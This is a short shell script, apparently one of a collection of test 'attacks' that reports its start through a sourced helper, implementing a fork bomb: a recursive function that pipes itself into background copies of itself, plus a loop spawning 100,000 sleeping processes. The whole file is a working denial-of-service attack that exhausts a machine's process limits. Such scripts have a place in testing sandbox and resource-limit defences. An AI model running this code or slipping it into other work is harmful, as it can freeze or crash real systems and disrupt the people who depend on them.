# Starts processes that start processes, without end, and never waits for any.
. attacks/report.sh

fact 'started' yes
bomb() {
  bomb 2>/dev/null | bomb 2>/dev/null &
  sleep 600
}
bomb 2>/dev/null &
for _ in $(seq 1 100000); do sleep 600 & done
wait
